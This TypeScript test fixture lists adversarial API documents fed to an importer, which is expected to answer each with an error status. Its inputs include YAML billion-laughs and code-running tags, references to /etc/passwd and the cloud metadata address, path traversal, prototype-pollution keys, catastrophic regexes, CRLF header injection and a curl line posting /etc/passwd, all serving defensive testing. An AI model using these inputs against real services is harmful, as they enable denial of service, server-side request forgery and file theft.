import type { Row } from '../row.ts';

const openapi = (
  rest: object,
  paths: object = { '/a': { get: { operationId: 'a', responses: {} } } },
): string =>
  JSON.stringify({
    openapi: '3.1.0',
    info: { title: 'Hostile', version: '1' },
    servers: [{ url: 'https://api.example.com' }],
    paths,
    ...rest,
  });
const withSchema = (schema: unknown, rest: object = {}): string =>
  openapi(rest, {
    '/a': {
      post: { operationId: 'a', requestBody: { content: { 'application/json': { schema } } }, responses: {} },
    },
  });
const handrail = (api: object, tool: object = {}): string =>
  JSON.stringify({
    handrail: 1,
    apis: [
      {
        slug: 'hostile',
        name: 'Hostile',
        baseUrl: 'https://api.example.com',
        headers: {},
        auth: { kind: 'none' },
        limits: {},
        enabled: true,
        ...api,
        tools: [
          {
            name: 'a',
            description: 'A',
            tags: [],
            annotations: {},
            operation: { method: 'GET', path: '/a', parameters: [] },
            reply: {},
            limits: {},
            enabled: true,
            ...tool,
          },
        ],
      },
    ],
  });

const chain = Object.fromEntries(
  Array.from({ length: 60 }, (_, i) => [
    `L${i}`,
    { allOf: [{ $ref: `#/components/schemas/L${i + 1}` }, { $ref: `#/components/schemas/L${i + 1}` }] },
  ]),
);

const patterns: readonly [string, string][] = [
  ['20,000 alternatives', Array.from({ length: 20_000 }, (_, i) => `w${i}`).join('|')],
  ['nested repetitions', '(a{1000}){1000}'],
  ['repetitions in a row', 'a{1000}'.repeat(1_000)],
  ['classes of Unicode', String.raw`\p{L}{1,1000}`.repeat(1_000)],
  ['a class of a megabyte', `[${'a-z'.repeat(300_000)}]`],
  ['nested groups', `${'('.repeat(50_000)}a${')'.repeat(50_000)}`],
  ['a class of dashes', String.raw`[\w${'-'.repeat(50_000)}\-\@]`],
];

const documents: readonly [string, string, name?: string][] = [
  ['nothing', ''],
  ['a blank', ' '],
  ['null', 'null'],
  ['a number', '42'],
  ['an empty list', '[]'],
  ['JSON that ends early', '{"openapi":"3.1.0","info":'],
  ['JSON nested without end', '['.repeat(100_000)],
  ['YAML that is none', 'a: [b\nc: }'],
  [
    'YAML that laughs',
    `a: &a ["x","x","x","x","x","x","x","x","x"]\n${Array.from(
      { length: 12 },
      (_, i) =>
        `b${i}: &b${i} [${Array(9)
          .fill(i === 0 ? '*a' : `*b${i - 1}`)
          .join(',')}]`,
    ).join('\n')}`,
  ],
  ['YAML with a tag that runs', 'a: !!js/function "function(){ process.exit() }"'],
  [
    'YAML keys of the prototype',
    'openapi: 3.1.0\n__proto__: {a: 1}\nconstructor: {prototype: {b: 1}}\ninfo: {title: x, version: "1"}\npaths: {}',
  ],
  ['YAML nested without end', '- '.repeat(20_000)],
  ['paths that are a list', openapi({}, [])],
  ['paths that are a text', openapi({ paths: 'x' })],
  ['a path of a megabyte', openapi({}, { [`/${'a/'.repeat(500_000)}`]: { get: { responses: {} } } })],
  [
    'a path with ten thousand places',
    openapi({}, { [`/${'{a}'.repeat(10_000)}`]: { get: { responses: {} } } }),
  ],
  ['a path that climbs', openapi({}, { '/../../admin': { get: { responses: {} } } })],
  ['a server on this machine', openapi({ servers: [{ url: 'http://127.0.0.1:1' }] })],
  ['a server that is a file', openapi({ servers: [{ url: 'file:///etc/passwd' }] })],
  ['a server with a password', openapi({ servers: [{ url: 'https://a:b@api.example.com' }] })],
  ['a server that is none', openapi({ servers: [{ url: 'http://[' }] })],
  ['a reference to a file', withSchema({ $ref: 'file:///etc/passwd' })],
  ['a reference to the network', withSchema({ $ref: 'http://169.254.169.254/latest' })],
  ['a reference to a file beside it', withSchema({ $ref: '../../../../etc/passwd#/a' })],
  [
    'a reference to itself',
    withSchema(
      { $ref: '#/components/schemas/A' },
      { components: { schemas: { A: { $ref: '#/components/schemas/A' } } } },
    ),
  ],
  [
    'references in a ring',
    withSchema(
      { $ref: '#/components/schemas/A' },
      {
        components: {
          schemas: { A: { $ref: '#/components/schemas/B' }, B: { $ref: '#/components/schemas/A' } },
        },
      },
    ),
  ],
  [
    'references that multiply',
    withSchema(
      { $ref: '#/components/schemas/L0' },
      { components: { schemas: { ...chain, L60: { type: 'string' } } } },
    ),
  ],
  ...patterns.map(([what, pattern]): [string, string] => [
    `a pattern of ${what}`,
    withSchema({
      type: 'object',
      properties: { a: { type: 'string', pattern } },
      patternProperties: { [pattern]: {} },
    }),
  ]),
  [
    'four thousand unions',
    withSchema({
      type: 'object',
      properties: Object.fromEntries(
        Array.from({ length: 4_096 }, (_, i) => [
          `f${i}`,
          { anyOf: [{ type: 'string', maxLength: 1 }, { type: 'integer' }] },
        ]),
      ),
    }),
  ],
  [
    'a schema nested two thousand deep',
    withSchema(
      JSON.parse(
        `${'{"type":"object","properties":{"a":'.repeat(2_000)}{"type":"string"}${'}}'.repeat(2_000)}`,
      ),
    ),
  ],
  [
    'a choice of a hundred thousand',
    withSchema({ enum: Array.from({ length: 100_000 }, (_, i) => `v${i}`) }),
  ],
  ['a pattern that backtracks', withSchema({ type: 'string', pattern: '^(a+)+$' })],
  ['a pattern that is none', withSchema({ type: 'string', pattern: '([' })],
  ['a pattern of a megabyte', withSchema({ type: 'string', pattern: '(a|'.repeat(300_000) })],
  [
    'properties of the prototype',
    withSchema(
      JSON.parse(
        '{"type":"object","properties":{"__proto__":{"type":"string"},"constructor":{"type":"string"}},"required":["__proto__"]}',
      ),
    ),
  ],
  ['a title of a megabyte', openapi({ info: { title: 'A'.repeat(1_000_000), version: '1' } })],
  [
    'a description of open brackets',
    openapi({ info: { title: 'x', version: '1', description: '[!['.repeat(200_000) } }),
  ],
  [
    'a description of open comments',
    openapi({}, { '/a': { get: { description: '<!--'.repeat(200_000), responses: {} } } }),
  ],
  [
    'a name of underscores',
    openapi({}, { '/a': { get: { operationId: '_'.repeat(200_000) + 'x', responses: {} } } }),
  ],
  [
    'hidden marks in a description',
    openapi({}, { '/a': { get: { description: 'a\u202e\u200b\u{e0041}b', responses: {} } } }),
  ],
  [
    'a header that frames the message',
    openapi(
      {},
      {
        '/a': {
          get: {
            parameters: [
              { name: 'Content-Length', in: 'header', schema: { type: 'string' } },
              { name: 'Host', in: 'header', schema: { type: 'string' } },
            ],
            responses: {},
          },
        },
      },
    ),
  ],
  ['the method TRACE', openapi({}, { '/a': { trace: { responses: {} } } })],
  [
    'ten thousand operations',
    openapi(
      {},
      Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`/p${i}`, { get: { responses: {} } }])),
    ),
  ],
  ['a probe that is a number', handrail({ probe: { path: 5 } })],
  ['a probe that is no path', handrail({ probe: { path: 'http://[', everyMs: 60_000 } })],
  ['a probe without its time', handrail({ probe: { path: '/' } })],
  ['a way to sign in that nobody knows', handrail({ auth: { kind: 'telepathy' } })],
  ['a signature without its parts', handrail({ auth: { kind: 'hmac' } })],
  ['a header that routes', handrail({ headers: { Host: 'evil.example' } })],
  ['a header with a line break', handrail({ headers: { 'X-A': 'b\r\nX-C: d' } })],
  ['an unreadable list of networks', handrail({ egressAllow: ['nonsense/99'] })],
  ['limits that are texts', handrail({ limits: { totalTimeoutMs: 'long' } })],
  ['limits beyond bounds', handrail({ limits: { totalTimeoutMs: 1e300, retries: -1 } })],
  ['a base address that is a number', handrail({ baseUrl: 7 })],
  ['an enabled that is a text', handrail({ enabled: 'yes' })],
  ['a tool without an operation', handrail({}, { operation: null })],
  [
    'a tool whose method is CONNECT',
    handrail({}, { operation: { method: 'CONNECT', path: '/', parameters: [] } }),
  ],
  [
    'a tool whose parameters are a text',
    handrail({}, { operation: { method: 'GET', path: '/', parameters: 'x' } }),
  ],
  ['a tool whose name is none', handrail({}, { name: '../x' })],
  ['a tool with a selection that is none', handrail({}, { reply: { select: ']][[' } })],
  ['an export of the future', JSON.stringify({ handrail: 99, apis: [] })],
  [
    'a Postman collection without items',
    '{"info":{"schema":"https://schema.getpostman.com/json/collection/v2.1.0/collection.json"}}',
  ],
  [
    'a Postman collection in a ring',
    `{"info":{"name":"x","schema":"https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},"item":[${'{"item":['.repeat(2_000)}${']}'.repeat(2_000)}]}`,
  ],
  [
    'Postman variables without end',
    JSON.stringify({
      info: { name: 'x', schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json' },
      variable: [{ key: 'a', value: '{{a}}{{a}}' }],
      item: [{ name: 'x', request: { method: 'GET', url: '{{a}}' } }],
    }),
  ],
  [
    'open braces in Postman',
    JSON.stringify({
      info: { name: 'x', schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json' },
      item: [{ name: 'x', request: { method: 'GET', url: `https://a.example/${'{{ '.repeat(50_000)}` } }],
    }),
  ],
  ['a HAR without entries', '{"log":{"version":"1.2","entries":[]}}'],
  ['a HAR of nonsense', '{"log":{"version":"1.2","entries":[1,null,{"request":7}]}}'],
  [
    'a HAR with a page of blanks',
    JSON.stringify({
      log: {
        version: '1.2',
        entries: [
          {
            request: {
              method: 'POST',
              url: 'https://a.example/x',
              headers: [],
              queryString: [],
              postData: { mimeType: 'multipart/form-data', text: `--${' '.repeat(200_000)}` },
            },
            response: { status: 200, content: {} },
          },
        ],
      },
    }),
  ],
  ['curl without an address', 'curl -X POST', 'a.sh'],
  ['curl with a quote that stays open', "curl 'https://a.example", 'a.sh'],
  ['curl that reads a file', 'curl -d @/etc/passwd https://a.example/x', 'a.sh'],
  ['curl with ten thousand options', `curl ${"-H 'X-A: b' ".repeat(10_000)} https://a.example/x`, 'a.sh'],
  ['curl with a range of a million', 'curl https://a.example/[1-1000000]', 'a.sh'],
  ['curl in a line of semicolons', `${';'.repeat(18_000)} curl`, 'a.sh'],
  ['a GraphQL schema', 'type Query { a: String }', 'schema.graphql'],
  ['a page of HTML', '<!doctype html><html><body>No</body></html>'],
  ['a zip', 'PK\u0003\u0004nonsense'],
];

/** What an editor imports, or a watched address serves. */
export const hostileDocuments: readonly Row[] = documents.map(([what, document, name]) => ({
  what: `a document that is ${what}`,
  way: { by: 'import', document, ...(name !== undefined && { name }) },
  expected: { status: [200, 400, 409, 413, 422] },
}));
